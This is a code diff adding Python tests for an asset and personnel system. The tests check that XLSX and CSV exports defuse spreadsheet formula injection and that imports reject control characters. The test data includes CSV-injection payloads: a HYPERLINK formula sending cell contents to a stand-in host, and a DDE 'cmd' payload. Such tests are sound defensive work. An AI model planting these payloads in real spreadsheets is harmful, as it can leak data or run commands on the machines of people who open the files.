@@ -565,3 +565,66 @@ def test_large_files_show_a_progress_bar_small_ones_do_not(db, tmp_path, capfd):
     assert "reading assets.csv" in large.err and "writing assets" in large.err
     assert "5100/5100" in large.err  # the bar counts the rows written
     assert "assets: 5100 created, 0 updated, 9 unchanged" in large.out
+
+
+# --- formulas and control characters --------------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/\"&A1,\"点我\")", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1)",
+            "'=already quoted"]
+
+
+def test_text_entered_through_the_api_is_never_a_live_formula_in_an_export(bureau, tmp_path, api_client_for):
+    """`qm export`: a name typed as a formula is text in the XLSX (no formula cell) and in the CSV (leading
+    apostrophe); importing the export gives back exactly the names entered."""
+    from tests.support.fixtures import make_user
+
+    client = api_client_for(make_user("admin", "admin", superuser=True))
+    for n, name in enumerate(FORMULAS):
+        response = client.post("/api/v1/personnel/", {"staff_no": f"F{n}", "name": name, "unit": "CZ-TN-01",
+                                                      "role": "auxiliary"}, format="json")
+        assert response.status_code == 201, response.content
+    call_command("export", str(tmp_path / "out.xlsx"))
+    call_command("export", str(tmp_path / "csv"))
+    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["personnel"]
+    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for n, name in enumerate(FORMULAS):
+        assert cells[f"F{n}"].data_type == "s" and cells[f"F{n}"].value == "'" + name
+    with open(tmp_path / "csv" / "personnel.csv", encoding="utf-8", newline="") as handle:
+        written = {row[0]: row[1] for row in csv.reader(handle)}
+    assert [written[f"F{n}"] for n in range(len(FORMULAS))] == ["'" + name for name in FORMULAS]
+    assert written["P001"] == "张三"
+
+    for exported in (tmp_path / "out.xlsx", tmp_path / "csv"):  # read back as the very names: nothing changes
+        result = run_import(exported)
+        assert (result.events, result.change_records) == (0, 0), result.summary()
+    assert [Person.objects.get(staff_no=f"F{n}").name for n in range(len(FORMULAS))] == FORMULAS
+
+
+def test_compliance_csv_and_xlsx_carry_unit_names_as_text(bureau):
+    from assets.compliance.render import render_csv, render_xlsx
+    from assets.compliance.services import compliance_report
+
+    OrgUnit.objects.filter(code="CZ-TN").update(name="=1+2")
+    OrgUnit.objects.filter(code="CZ-WJ").update(name="@cmd")
+    report = compliance_report(unit=OrgUnit.objects.get(code="CZ"), standard_id="jiangsu",
+                               as_of=dt.date(2026, 11, 22))
+    values = [c.value for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
+              for c in row if isinstance(c.value, str)]
+    formulas = [c for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == [] and "'=1+2" in values and "'@cmd" in values
+    rows = list(csv.reader(io.StringIO(render_csv(report).decode())))
+    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
+
+
+def test_a_control_character_in_a_cell_is_refused_with_its_place(db, tmp_path):
+    """A NUL in a CSV cell used to be stored, and then every XLSX export stopped on it."""
+    sheets = base()
+    sheets["personnel"][2][1] = "李\x00四"
+    sheets["assets"][2][6] = "SN\x07"
+    with pytest.raises(WorkbookError) as refused:
+        run_import(write(tmp_path / "b", sheets))
+    reasons = [str(e) for e in refused.value.errors]
+    assert "personnel.csv, row 4, column name: contains the control character U+0000 at position 2" in reasons
+    assert "assets.csv, row 4, column serial: contains the control character U+0007 at position 3" in reasons
+    assert Person.objects.count() == 0
